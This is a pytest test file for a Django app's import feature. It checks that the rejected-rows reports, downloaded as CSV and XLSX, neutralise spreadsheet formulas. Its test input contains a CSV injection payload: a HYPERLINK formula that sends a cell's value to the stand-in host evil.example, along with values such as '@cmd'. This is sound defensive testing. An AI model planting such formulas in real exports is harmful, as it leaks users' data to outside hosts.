"""The rejected-rows report of an import never hands a spreadsheet a formula, header row included:
uploaded through the pages and the API, downloaded as CSV and XLSX, read back with the csv
module and openpyxl (not Accord's readers)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accord.dataio.models import ImportRun
from accord.dataio.tests.access_rows import RewindingFile
from accord.tenancy.services import api_token_create

FORMULA_FIRST = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"Open")'
ATTACK = (
    f'name,currency,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",@SUM(1+1),notes\n'
    f'Acme,XXXX,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",+1+1,-2-2\n'
    'Beta,YYYY,"=1+1","@cmd","\t=3"\n'
)
RAW_HEADER = ["name", "currency", HYPERLINK, "@SUM(1+1)", "notes"]


def _download(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _assert_csv_is_guarded(content: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert len(rows) == 3  # the header and both rejected rows
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_FIRST), value
    # The guard is one apostrophe in front of what was uploaded, nothing else.
    assert rows[0][2:] == ["'" + h if h.startswith(FORMULA_FIRST) else h for h in RAW_HEADER]
    assert rows[1][4:] == ["'" + HYPERLINK, "'+1+1", "'-2-2"]
    assert rows[2][4:] == ["'=1+1", "'@cmd", "'=3"]
    return rows


def _assert_xlsx_is_text(content: bytes) -> None:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells
    for cell in cells:
        assert cell.data_type in ("s", "n"), (cell.coordinate, cell.data_type, cell.value)
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    # Text cells hold exactly what was uploaded: no apostrophe, and never a formula.
    assert values[0][2:] == RAW_HEADER
    assert values[1][0] == 2 and values[1][4:] == [HYPERLINK, "+1+1", "-2-2"]
    assert values[2][4:] == ["=1+1", "@cmd", "=3"]  # cells are trimmed when read


def test_report_pages_guard_every_cell_of_csv_and_xlsx(world):
    http = world.http(world.manager)
    response = http.post(
        reverse("dataio:import_upload", args=["clients"]),
        {"file": RewindingFile("clients.csv", ATTACK.encode())},
    )
    assert response.status_code == 302
    run = ImportRun.objects.get()
    response = http.post(
        reverse("dataio:import_map", args=[run.pk]),
        {"col_0": "name", "col_1": "currency", "duplicates": "skip"},
    )
    assert response.status_code == 302
    http.post(reverse("dataio:import_execute", args=[run.pk]))
    run.refresh_from_db()
    assert run.rejected_count == 2
    url = reverse("dataio:import_report", args=[run.pk])
    _assert_csv_is_guarded(_download(http.get(url)))
    xlsx = http.get(url, {"format": "xlsx"})
    assert xlsx.status_code == 200 and xlsx["Content-Disposition"].endswith('.xlsx"')
    _assert_xlsx_is_text(_download(xlsx))
    assert http.get(url, {"format": "pdf"}).status_code == 400


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_report_api_guards_every_cell(world, client, file_format):
    raw = api_token_create(membership=world.memberships[world.manager.pk], name="import")[1]
    auth = {"HTTP_AUTHORIZATION": f"Bearer {raw}"}
    response = client.post(
        "/api/v1/imports",
        {"kind": "clients", "file": RewindingFile("clients.csv", ATTACK.encode())},
        **auth,
    )
    assert response.status_code == 201, response.content
    run_id = response.json()["id"]
    response = client.post(
        f"/api/v1/imports/{run_id}/run",
        {"mapping": {"0": "name", "1": "currency"}, "duplicates": "skip"},
        content_type="application/json",
        **auth,
    )
    assert response.json()["rejected_count"] == 2
    report = client.get(f"/api/v1/imports/{run_id}/report", {"format": file_format}, **auth)
    assert report.status_code == 200
    if file_format == "csv":
        _assert_csv_is_guarded(_download(report))
    else:
        _assert_xlsx_is_text(_download(report))
